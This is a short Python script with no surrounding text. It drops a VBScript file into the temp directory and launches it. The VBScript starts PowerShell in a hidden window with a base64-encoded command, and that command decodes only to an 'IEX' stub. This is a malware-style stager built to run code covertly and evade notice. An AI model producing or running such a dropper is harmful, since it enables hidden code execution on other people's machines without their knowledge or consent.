import os, tempfile
p = os.path.join(tempfile.gettempdir(), "r.vbs")
with open(p, "w") as f:
    f.write('Set s = CreateObject("WScript.Shell")\ns.Run "powershell -w hidden -enc SQBFAFgA", 0\n')
os.startfile(p)
